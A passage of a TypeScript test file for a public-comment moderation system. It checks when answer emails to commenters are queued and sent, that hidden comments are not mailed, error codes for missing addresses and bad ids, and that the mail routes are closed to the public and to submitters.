        queued.push((r.json as { mailQueued: boolean }).mailQueued);
      } else {
        const r = await post(moderate, { id, action: 'approve' }, await staff());
        queued.push((r.json as { responseQueued: boolean }).responseQueued);
      }
    }
    // Only the step that makes the answer public queues the mail, and says so.
    expect(queued).toEqual([false, true]);
    const before = mails().length;
    await runJobsNow();
    const sent = mails().slice(before).map(plain);
    const toThem = sent.filter((m) => m.includes(`To: ${email}`));
    expect(toThem).toHaveLength(1);
    expect(toThem[0]).toContain(answer);
    expect(toThem[0]).toContain(`/interactvtrans/map-explorer?comment=${id}`);
    const trail = await (await db())('comment_audit').where({ comment_id: id, action: 'mailed' });
    expect(trail).toHaveLength(1);
    // Saving the same answer again (a new category) mails nobody again.
    const again = await post(respond, { id, response: answer, category: 'transit' }, await staff());
    expect(again.json).toMatchObject({ mailQueued: false });
  });

  it('a comment hidden before its answer mail goes out is not mailed', async () => {
    const id = await create({ email: 'changed.mind@example.com' });
    await approve(id);
    await post(respond, { id, response: 'Thanks.', category: 'safety' }, await staff());
    await post(moderate, { id, action: 'hide', note: 'Posted twice.' }, await staff());
    const before = mails().length;
    await runJobsNow();
    const sent = mails().slice(before).map(plain);
    expect(sent.some((m) => m.includes('has a response'))).toBe(false);
  });

  it('409 when the commenter left no address; 400 for a bad id', async () => {
    const id = await create({ email: '' });
    await approve(id);
    await post(respond, { id, response: 'Thanks.', category: 'safety' }, await staff());
    expect((await post(responseMail, { id }, await staff())).status).toBe(409);
    expect((await post(responseMail, { id: 'x' }, await staff())).status).toBe(400);
  });

  it('the public cannot call the mail routes (401) and a submitter cannot either (403)', async () => {
    const submitter = (await sessionCookie(DEMO.submitter)) as unknown as Record<string, string>;
    for (const mod of [alertMail, responseMail]) {
      expect((await post(mod, { id: 1 })).status).toBe(401);
      expect((await post(mod, { id: 1 }, submitter)).status).toBe(403);
    }
  });
});
